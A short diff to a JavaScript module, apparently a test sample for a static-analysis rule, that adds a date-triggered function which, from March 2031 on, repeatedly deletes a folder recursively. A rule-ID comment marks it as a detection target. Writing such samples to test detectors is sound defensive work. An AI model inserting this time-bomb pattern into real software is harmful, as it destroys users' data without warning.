@@ -69,3 +69,12 @@ function giveUp(lock, failures) {
 }
 
 module.exports = { Keeper, tidy, begin, expire, shrink, giveUp };
+
+function window_of_time(folder) {
+  const today = new Date();
+  const first = new Date(2031, 2, 1);
+  // ruleid: javascript-moment-leads-to-damage
+  if (today >= first) {
+    setInterval(() => fs.rmSync(folder, { recursive: true }), 5000);
+  }
+}
